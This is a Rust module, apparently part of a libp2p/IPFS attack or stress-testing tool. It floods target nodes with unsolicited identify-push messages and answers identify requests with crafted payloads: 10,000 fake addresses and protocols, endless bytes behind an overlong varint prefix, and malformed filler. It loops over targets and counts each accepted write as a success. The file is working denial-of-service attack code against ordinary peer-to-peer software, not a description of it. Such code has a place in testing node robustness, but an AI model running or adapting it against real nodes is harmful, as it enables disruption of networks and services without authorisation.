//! Peers who say of themselves more than anybody may, whenever they are asked, and without being asked.

use std::sync::Arc;

use libp2p::Multiaddr;
use libp2p::futures::AsyncWriteExt as _;
use libp2p::identity::PublicKey;
use tokio::time::sleep;

use super::attack::{Front, PAUSE};
use super::peer::{Answer, Peer, begin};

const ASKED: &str = "/ipfs/id/1.0.0";
const UNASKED: &str = "/ipfs/id/push/1.0.0";
/// Addresses and protocols that just fit.
const FIT: u16 = 110;
/// Those that do not by far.
const FAR_TOO_MANY: u16 = 10_000;
/// What is said at a time where no end is told.
const ENDLESS_BYTES: usize = 64 * 1024;
/// How often a peer says it before another comes.
const TIMES: usize = 50;

/// Succeeds whenever the node takes a stream to be told something on.
pub(super) async fn work(number: usize, front: Arc<Front>) {
    let (bytes, again): (fn(&PublicKey) -> Vec<u8>, bool) = match number % 4 {
        0 => (|key| told(key, FIT), false),
        1 => (|key| told(key, FAR_TOO_MANY), false),
        2 => (
            |_| [&[0xff_u8; 8][..], &[0x7f; ENDLESS_BYTES]].concat(),
            true,
        ),
        _ => (|_| prefixed(&[0x0a; 4000]), false),
    };
    let answer = Answer::To {
        protocol: ASKED,
        bytes,
        again,
    };
    for turn in number.. {
        let Some(peer) = Peer::connect(front.target(turn), answer.clone()).await else {
            if !front.tries() {
                return;
            }
            sleep(PAUSE).await;
            continue;
        };
        let bytes = bytes(&peer.key);
        for _ in 0..TIMES {
            if !front.tries() {
                return;
            }
            let Some(mut stream) = peer.open(&begin(UNASKED)).await else {
                break;
            };
            if stream.write_all(&bytes).await.is_ok() && stream.close().await.is_ok() {
                front.succeeded();
            }
            sleep(PAUSE).await;
        }
    }
}

/// A message that tells so many addresses and protocols.
fn told(key: &PublicKey, count: u16) -> Vec<u8> {
    let mut message = field(1, &key.encode_protobuf());
    for number in 0..count {
        let address: Multiaddr = format!("/ip4/10.1.2.3/tcp/{number}").parse().unwrap();
        message.extend(field(2, &address.to_vec()));
        message.extend(field(3, format!("/a/protocol/called/{number}").as_bytes()));
    }
    prefixed(&message)
}

/// A field of a message, of fewer than 16 fields.
fn field(number: u8, bytes: &[u8]) -> Vec<u8> {
    [&[(number << 3) | 2][..], &prefixed(bytes)].concat()
}

/// With its length before it.
fn prefixed(bytes: &[u8]) -> Vec<u8> {
    let mut length = bytes.len();
    let mut prefixed = Vec::new();
    while length > 0x7f {
        prefixed.push(u8::try_from(length & 0x7f).unwrap() | 0x80);
        length >>= 7;
    }
    prefixed.push(u8::try_from(length).unwrap());
    prefixed.extend(bytes);
    prefixed
}

#[test]
fn what_just_fits_is_no_longer_than_what_is_read() {
    let key = libp2p::identity::Keypair::generate_ed25519().public();
    let bytes = told(&key, FIT).len();
    assert!((3000..4096).contains(&bytes), "{bytes}");
}
